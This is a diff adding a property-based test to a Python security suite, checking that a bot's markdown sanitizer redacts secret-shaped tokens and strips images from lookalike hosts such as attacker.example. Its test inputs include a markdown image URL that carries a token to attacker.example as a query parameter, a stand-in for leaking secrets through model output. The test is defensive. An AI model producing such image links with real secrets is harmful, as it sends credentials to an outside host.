@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from bot.sanitize import sanitize
 from tests.security.markdown_oracle import problems
+from tests.security.test_sec_redact import tokens
 
 FRAGMENTS = [
     "![", "](", ")", "(", "[", "]", "]:", "!", "<", ">", "/", "img", "image", " src=", "@", "octo", "/team",
@@ -66,3 +67,18 @@ def test_github_hosted_images_stay() -> None:
     for host in ("github.com.attacker.example", "attacker.example", "githubusercontent.com.evil.example"):
         assert sanitize(f"![x](https://{host}/a.png)") == "(image removed)"
     assert sanitize("![x](http://github.com/a.png)") == "(image removed)"  # not https
+
+
+@given(tokens, st.sampled_from(FRAGMENTS), st.sampled_from(FRAGMENTS))
+@settings(max_examples=200, deadline=None)
+def test_no_token_shape_survives_sanitizing_wherever_the_model_put_it(token: str, before: str, after: str) -> None:
+    """Secrets: what the sanitizer returns is redacted, in an image or link URL, a code span or fence too."""
+    for text in (
+        f"{before}{token}{after}",
+        f"![x](https://attacker.example/p.png?d={token})",
+        f"[docs](https://example.com/?access_token={token}) and `{token}`",
+        f"```\nexport GITHUB_TOKEN={token}\n```\n",
+        f"Authorization: bEaReR {token}",
+    ):
+        for out in (sanitize(text), sanitize(text, inline=True)):
+            assert token not in out and token[-20:] not in out, (text, out)
